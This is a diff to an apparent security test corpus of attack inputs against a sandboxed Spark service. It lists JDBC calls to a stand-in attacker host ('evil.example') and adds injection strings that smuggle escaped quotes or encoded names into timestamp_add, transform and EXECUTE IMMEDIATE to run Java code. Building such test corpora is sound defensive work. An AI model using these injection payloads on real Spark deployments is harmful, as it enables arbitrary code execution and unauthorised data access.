@@ -4,6 +4,10 @@ from __future__ import annotations
 
 from collections.abc import Mapping, Sequence
 
+from support.attacks_in_sql import ENDS, UNIT, coded
+
+_EXISTS = f"SELECT exists(array(id), `{coded()}` -> id > 1) FROM range(3)"
+
 CONNECT: Mapping[str, Sequence[str]] = {
     "take a connection apart, or use another user's": [
         "spark.read.format('jdbc').options(**shop, dbtable='a', url='{evil}').load().schema",
@@ -54,6 +58,20 @@ CONNECT: Mapping[str, Sequence[str]] = {
         "spark.range(1).write.jdbc('jdbc:derby:memory:mine;create=true', 'a')",
         "spark.range(1).write.format('jdbc').options(url='jdbc:derby:memory:mine', dbtable='a').save()",
         "spark.read.jdbc('jdbc:hive2://evil.example/x', 'a').schema",
+    ],
+    "run Java by a name": [
+        f"spark.range(3).select(F.timestamp_add({UNIT!r}, 'id', F.now())).collect()",
+        f"spark.range(3).select(F.timestamp_diff({UNIT!r}, F.now(), F.timestamp_seconds('id'))).collect()",
+        f"spark.range(3).filter(F.timestamp_add({UNIT!r}, 'id', F.now()) > F.now()).count()",
+        f"spark.range(3).sort(F.timestamp_diff({UNIT!r}, F.now(), F.timestamp_seconds('id'))).collect()",
+        "spark.range(3).select(F.timestamp_add('DAY\\\\u0022 + 1 + \\\\u0022', 'id', F.now())).collect()",
+        *(f"spark.range(3).select(called({coded(end)!r})).collect()" for end in ENDS),
+        f"spark.range(3).select(called({coded()!r}, 'filter')).collect()",
+        f"spark.range(3).filter(F.size(called({coded()!r})) > 0).count()",
+        f"spark.range(3).selectExpr({f'transform(array(id), `{coded()}` -> id)'!r}).collect()",
+        f"spark.range(3).select(called({coded()!r}).alias('a')).createTempView('peek')",
+        f"spark.sql({f'SELECT transform(array(1), `{coded()}` -> id) FROM range(:n)'!r}, args=dict(n=3)).collect()",
+        f"spark.sql('EXECUTE IMMEDIATE ' + repr({_EXISTS!r})).collect()",
     ],
     "have Spark make the relation by itself": [
         "spark.read.jdbc('{evil}', 'sysibm.sysdummy1', predicates=['1 = 1']).collect()",
